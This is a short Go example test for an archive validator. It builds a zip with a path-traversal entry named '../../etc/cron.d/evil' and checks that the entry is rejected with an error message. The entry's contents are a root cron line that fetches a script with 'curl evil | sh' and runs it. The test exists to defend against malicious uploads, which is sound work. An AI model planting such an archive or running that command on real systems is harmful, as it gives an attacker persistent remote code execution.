package archive_test

import (
	"archive/zip"
	"bytes"
	"errors"
	"fmt"

	"github.com/qinling-go/qinling/pkg/archive"
)

// A package naming a path outside its directory is refused with a message
// meant for the user who uploaded it.
func ExampleValidate() {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, _ := zw.Create("../../etc/cron.d/evil")
	w.Write([]byte("* * * * * root sh -c 'curl evil | sh'\n"))
	zw.Close()

	err := archive.Validate(bytes.NewReader(buf.Bytes()), int64(buf.Len()), archive.DefaultLimits())
	fmt.Println(errors.Is(err, archive.ErrInvalid))
	fmt.Println(err)
	// Output:
	// true
	// Package entry "../../etc/cron.d/evil" escapes the package directory.
}
